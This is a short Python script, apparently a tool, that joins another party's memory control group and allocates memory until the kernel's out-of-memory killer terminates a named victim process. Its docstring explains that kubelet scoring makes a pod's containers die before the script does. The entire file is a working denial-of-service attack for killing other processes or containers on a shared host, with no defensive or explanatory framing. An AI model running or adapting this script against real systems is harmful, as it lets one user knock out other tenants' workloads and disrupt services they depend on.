"""Takes memory in somebody's control group until the kernel has killed that process: `memory_hog.py GROUP PROCESS`.

Of the processes in a group without memory the kernel kills the one with the highest score, and kubelet gives those of
a pod's containers a far higher one than this has.
"""

import os
import sys
from pathlib import Path


def main() -> None:
    """Join the group and fill it."""
    group, victim = Path(sys.argv[1]), Path("/proc") / sys.argv[2]
    (group / "cgroup.procs").write_text(str(os.getpid()))
    held = []
    while victim.exists():
        held.append(bytearray(1 << 20))


if __name__ == "__main__":
    main()
